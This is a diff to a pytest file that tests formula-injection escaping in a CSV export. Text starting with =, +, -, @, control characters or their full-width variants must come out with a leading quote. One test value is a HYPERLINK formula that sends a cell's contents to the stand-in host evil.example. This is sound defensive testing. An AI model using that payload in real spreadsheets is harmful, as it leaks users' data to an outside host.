@@ -25,11 +25,12 @@ TEXTS = [
     'a "quoted" one',
     "two\nlines",
     "two\r\nlines",
-    "\r",
     " edges ",
     "Grüße, 世界 🎉",
-    "=1+1",
     "\x01",
+    "1-1",
+    "a@b.example",
+    "'quoted'",
 ]
 
 
@@ -85,6 +86,40 @@ class TestCsv:
         assert [(row["name"], row["description"], json.loads(row["tags"])) for row in rows] == [
             (text, text, [text, text]) for text in TEXTS
         ]
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "=1+1",
+            '=HYPERLINK("https://evil.example/?"&A1,"a")',
+            "+1",
+            "-1+1",
+            "-",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            "\uff1d1+1",
+            "\uff0b1",
+            "\uff0d1",
+            "\uff20a",
+            "=1,2",
+        ],
+    )
+    def test_text_that_begins_like_a_formula_is_a_text_to_spreadsheets(self, text: str) -> None:
+        _, _, content = written("csv", [item(name=text, description=text, tags=[text])])
+        _, _, raw = written("ndjson", [item(name=text, description=text, tags=[text])])
+
+        (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True)
+        assert (row["name"], row["description"]) == (f"'{text}", f"'{text}")
+        assert json.loads(row["tags"]) == [text]
+        assert json.loads(raw)["name"] == text
+
+    def test_number_in_a_csv_stays_a_number(self) -> None:
+        _, _, content = written("csv", [item(version=-7)])
+
+        (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
+        assert row["version"] == "-7"
 
     def test_csv_follows_rfc_4180(self) -> None:
         _, _, content = written("csv", [item(1), item(2, name='a "b", c', tags=["x", 'y"'])])
